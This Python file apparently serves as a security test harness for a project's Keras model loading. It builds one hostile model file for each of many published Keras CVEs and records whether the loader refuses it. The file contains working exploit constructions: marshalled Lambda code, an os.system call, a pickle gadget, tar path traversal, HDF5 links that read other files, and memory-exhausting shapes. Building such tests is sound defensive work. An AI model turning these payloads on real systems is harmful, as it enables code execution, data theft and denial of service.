"""Files that would run code, write or read elsewhere, or fill the memory if they were loaded as a Keras model.

One for each published weakness of Keras's loading, as whoever may write to a run's folder would make it. The names say
where it was published. Run as a program: `hostile_models.py RUN FOLDER` writes each over a copy of the run's model,
exports it with the record of its hash, loads it without, and prints what happened as JSON.
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import pickle
import shutil
import sys
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import h5py
import keras
import numpy as np

from mri_core.errors import StorageError
from mri_core.exporting.export import export_model
from mri_core.prediction.export import load_keras
from mri_core.prediction.model_file import MODEL_KERAS, read_description, write_description

Config = dict[str, Any]


class Touch:
    """What unpickles by making a file."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> tuple[object, ...]:
        return (open, (str(self.path), "w"))


def layer(module: str, kind: str, config: Config, **more: Any) -> Config:
    return {"module": module, "class_name": kind, "config": config, "registered_name": None, **more}


def function(module: str, name: str) -> Config:
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def code(canary: Path) -> Config:
    """A lambda that makes the canary when it is called, as Keras stores one."""
    compiled = compile(f"lambda x: open({str(canary)!r}, 'w') and x", "", "eval").co_consts[0]
    coded = base64.b64encode(marshal.dumps(compiled)).decode()
    return {"class_name": "__lambda__", "config": {"code": coded, "defaults": None, "closure": None}}


def lambda_layer(canary: Path) -> Config:
    return layer("keras.layers", "Lambda", {"name": "evil", "function": code(canary), "arguments": {}})


def model_of(*layers: Config) -> Config:
    begin = layer("keras.layers", "InputLayer", {"batch_shape": [None, 4], "dtype": "float32", "name": "begin"})
    config = {"name": "model", "trainable": True, "dtype": "float32", "layers": [begin, *layers]}
    return layer("keras", "Sequential", config, build_config={"input_shape": [None, 4]})


def calling(module: str, name: str, first: str, /, **arguments: Any) -> Config:
    """A graph in which a layer calls any function with any arguments while the graph is built."""
    evil = layer(
        "keras.layers",
        "Lambda",
        {"name": "evil", "function": function(module, name), "arguments": arguments},
        name="evil",
        inbound_nodes=[{"args": [first], "kwargs": {}}],
    )
    begin = layer(
        "keras.layers",
        "InputLayer",
        {"batch_shape": [None, 4], "dtype": "float32", "name": "begin"},
        name="begin",
        inbound_nodes=[],
    )
    ends = {"input_layers": [["begin", 0, 0]], "output_layers": [["evil", 0, 0]]}
    return layer("keras.src.models.functional", "Functional", {"name": "m", "layers": [begin, evil], **ends})


def dense(name: str = "dense") -> Config:
    return layer("keras.layers", "Dense", {"name": name, "units": 3}, build_config={"input_shape": [None, 4]})


def archive(config: Config, weights: bytes = b"", **more: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("metadata.json", json.dumps({"keras_version": "3.15.1", "date_saved": "2026-01-01@00:00:00"}))
        packed.writestr("config.json", json.dumps(config))
        for name, data in ({"model.weights.h5": weights or hdf5(lambda _: None)} | more).items():
            packed.writestr(name, data)
    return out.getvalue()


def hdf5(fill: Callable[[h5py.Group], object]) -> bytes:
    """Weights of `dense`, whose kernel `fill` makes."""
    out = io.BytesIO()
    with h5py.File(out, "w") as file:
        held = file.create_group("layers/dense/vars")
        fill(held)
        held.create_dataset("1", data=np.zeros(3, np.float32))
    return out.getvalue()


def plain(held: h5py.Group) -> None:
    held.create_dataset("0", data=np.zeros((4, 3), np.float32))


def external(canary: Path) -> bytes:
    return hdf5(lambda held: held.create_dataset("0", (4, 3), "f4", external=[(str(canary), 0, 48)]))


def virtual(canary: Path) -> bytes:
    layout = h5py.VirtualLayout((4, 3), "f4")
    layout[:] = h5py.VirtualSource(str(canary), "0", (4, 3))
    return hdf5(lambda held: held.create_virtual_dataset("0", layout))


def link(canary: Path) -> bytes:
    def fill(held: h5py.Group) -> None:
        held["0"] = h5py.ExternalLink(str(canary), "/0")

    return hdf5(fill)


def legacy(canary: Path) -> bytes:
    config = model_of(lambda_layer(canary))
    out = io.BytesIO()
    with h5py.File(out, "w") as file:
        file.attrs["model_config"] = json.dumps(config).encode()
        file.attrs["keras_version"] = b"2.10.0"
        file.attrs["backend"] = b"tensorflow"
        file.create_group("model_weights")
    return out.getvalue()


def tar_out_of(folder: Path, canary: Path) -> Path:
    """A tar file in `folder` with a member that leads to the canary."""
    path = folder / "escape.tar"
    with tarfile.open(path, "w") as packed:
        packed.addfile(tarfile.TarInfo(f"{'../' * 20}{canary}"))
    return path


def attacks(folder: Path, canary: Path, secret: Path) -> dict[str, bytes]:
    """Name -> what stands in place of `model.keras`. canary: must not come to be. secret: must not be read."""
    get_file = {"origin": secret.as_uri(), "cache_dir": str(folder), "cache_subdir": ".", "force_download": True}
    tar = get_file | {"origin": tar_out_of(folder, canary).as_uri(), "extract": True}
    unlocked = layer(
        "keras.layers", "Lambda", {"name": "un", "function": function("keras.config", "enable_unsafe_deserialization")}
    )
    pickled = {"class_name": "__bytes__", "value": base64.b64encode(pickle.dumps(Touch(canary))).decode()}
    lookup = {"name": "evil", "vocabulary": str(secret), "dtype": "string", "num_oov_indices": 1}
    wrapped = layer("keras.layers", "TimeDistributed", {"name": "t", "layer": lambda_layer(canary)})
    escaping = layer("keras.layers", "Dense", {"name": "..", "units": 3}, build_config={"input_shape": [None, 4]})
    npz = io.BytesIO()
    np.savez_compressed(npz, a=np.zeros(2**24, np.float32))
    return {
        "CVE-2024-3660, a Lambda layer's code": archive(model_of(lambda_layer(canary))),
        "CVE-2025-1550, any function by its name": archive(calling("os", "system", f"touch {canary}")),
        "CVE-2025-8747, Keras's own download": archive(calling("keras.utils", "get_file", canary.name, **get_file)),
        "CVE-2025-9905, a legacy HDF5 file": legacy(canary),
        "CVE-2025-9906, safe mode switched off": archive(model_of(unlocked, lambda_layer(canary))),
        "CVE-2025-9906, a model that loads another": archive(
            calling("keras.models", "load_model", str(folder / "inner.keras"), safe_mode=False)
        ),
        "CVE-2025-49655, a pickle in a layer": archive(
            model_of(layer("keras.layers", "TorchModuleWrapper", {"name": "evil", "module": pickled}))
        ),
        "CVE-2025-12058, a vocabulary that is a file": archive(model_of(layer("keras.layers", "StringLookup", lookup))),
        "CVE-2024-55459, CVE-2025-12060, CVE-2025-12638, a tar file that leads out": archive(
            calling("keras.utils", "get_file", "escape.tar", **tar)
        ),
        "CVE-2026-0897, a shape that fills the memory": archive(
            model_of(dense()), hdf5(lambda held: held.create_dataset("0", (2**24, 2**24), "f4", chunks=(64, 64)))
        ),
        "CVE-2026-1462, a SavedModel elsewhere": archive(
            model_of(layer("keras.layers", "TFSMLayer", {"name": "evil", "filepath": str(folder / "saved")}))
        ),
        "CVE-2026-1669, weights in an external file": archive(model_of(dense()), external(secret)),
        "CVE-2026-12479, a layer called ..": archive(model_of(escaping), hdf5(plain)),
        "CVE-2026-12480, weights mapped from another file": archive(model_of(dense()), virtual(secret)),
        "CVE-2026-12481, a Lambda layer within a layer": archive(model_of(wrapped)),
        "GHSA-27f4-p4xq-cxg8, a link to another file": archive(model_of(dense()), link(secret)),
        "keras #23010, #23016, weights that inflate without end": archive(
            model_of(dense()), **{"model.weights.npz": npz.getvalue(), "model.weights.h5": bytes(2**26)}
        ),
        "a pickle": pickle.dumps(Touch(canary)),
    }  # fmt: skip


def main(run: Path, folder: Path) -> dict[str, dict[str, Any]]:
    """By attack and whether the hash is recorded: the error's kind and words, or that there was none; what was left."""
    canary, secret = folder / "canary", folder / "secret"
    with h5py.File(secret, "w") as file:
        file["0"] = np.full((4, 3), 42, np.float32)
    copy = folder / "run"
    shutil.copytree(run, copy)
    recorded = read_description(copy)
    assert load_keras(copy).count_params() > 0
    every = attacks(folder, canary, secret)
    (folder / "inner.keras").write_bytes(every["CVE-2024-3660, a Lambda layer's code"])
    keras.models.load_model(folder / "inner.keras", compile=False, safe_mode=False)
    found: dict[str, dict[str, Any]] = {"without protection": {"code ran": canary.exists()}}
    canary.unlink(missing_ok=True)
    before = sorted(folder.iterdir())
    for name, data in every.items():
        (copy / MODEL_KERAS).write_bytes(data)
        found[name] = {}
        for kind, hashes, load in (("recorded", recorded.sha256, export), ("unrecorded", {}, load_keras)):
            write_description(copy, recorded.model_copy(update={"sha256": hashes}))
            found[name][kind] = _told(load, copy)
            found[name][f"left, {kind}"] = [str(path) for path in sorted(folder.iterdir()) if path not in before]
            canary.unlink(missing_ok=True)
    return found


def export(run: Path) -> keras.Model:
    export_model(run, "keras", run.parent / "exported.keras", None)
    return keras.models.load_model(run.parent / "exported.keras")


def _told(load: Callable[[Path], keras.Model], run: Path) -> dict[str, str]:
    try:
        model = load(run)
    except StorageError as error:
        return {"refused": str(error), "cause": repr(error.__cause__)}
    return {"loaded": " ".join(str(one.numpy().ravel()[:3]) for one in model.weights)}


if __name__ == "__main__":
    print(json.dumps(main(Path(sys.argv[1]), Path(sys.argv[2]))))
